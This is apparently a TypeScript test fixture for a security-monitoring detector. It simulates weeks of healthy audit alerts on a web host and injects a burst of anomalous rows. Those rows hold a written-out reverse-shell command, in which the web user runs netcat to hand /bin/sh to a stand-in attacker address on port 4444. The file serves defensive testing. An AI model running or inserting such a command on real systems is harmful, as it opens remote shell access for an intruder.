import type { AuditEvent, AuditObservation } from "../../domain/audit/observation.ts";
import { epochMs } from "../../domain/time/clock.ts";
import { simulateActions } from "../../harness/audit/simulate.ts";
import { auditOffice } from "../../scenarios/audit/audit-office.ts";

/** Alerts of four healthy weeks, without maintenance. */
function weeks(): readonly AuditObservation[] {
  const scenario = { ...auditOffice, hours: 672, traffic: [] };
  return [...simulateActions(scenario, 1)].map(({ observation }) => observation);
}

let simulated: readonly AuditObservation[] | undefined;
const healthyWeeks = (): readonly AuditObservation[] => (simulated ??= weeks());

/** The first three of the four weeks. */
export function earlierAudits(): readonly AuditObservation[] {
  const rows = healthyWeeks();
  return rows.slice(0, Math.floor(rows.length * 0.75));
}

/** 300 alerts of another day of the last week for each seed up to 5. */
export function healthyAudits(seed: number): readonly AuditObservation[] {
  const rows = healthyWeeks();
  const from = Math.floor(rows.length * 0.75) + seed * 400;
  return rows.slice(from, from + 300).map((row, index) => ({ ...row, index }));
}

/** Healthy alerts; rows 100 to 199 are those of one shell of the web application. */
export function faultyAudits(seed: number): readonly AuditObservation[] {
  return healthyAudits(seed).map((row, index) =>
    index < 100 || index >= 200
      ? row
      : {
          ...row,
          ruleId: "80792",
          event: ranBy("www-data", "33", "nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
        },
  );
}

/** A command of a service. */
export function ranBy(user: string, userId: string, ...words: readonly string[]): AuditEvent {
  return { kind: "command", user, userId, program: `/usr/bin/${words[0] ?? ""}`, words };
}

const rules = { added: "554", modified: "550", deleted: "553" } as const;

/** An alert on `web-1`. */
export function auditRow(event: AuditEvent, index = 0, atMs = epochMs): AuditObservation {
  const ruleId = event.kind === "file" ? rules[event.change] : event.kind === "command" ? "80792" : "5715";
  return { kind: "audit", index, atMs, host: "web-1", ruleId, level: 3, groups: [], event };
}
